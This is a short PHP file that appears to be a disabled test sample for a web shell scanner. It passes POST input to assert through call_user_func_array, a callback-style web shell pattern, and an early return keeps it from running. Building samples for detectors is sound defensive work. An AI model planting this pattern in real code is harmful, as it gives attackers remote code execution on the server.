<?php
// synthetic test sample for breachscan: callback shell - an execution function passed
// by name to a callback-taking function together with request input. Disabled.
return;
$payload = isset($_POST['p']) ? $_POST['p'] : '';
call_user_func_array('assert', array($payload));
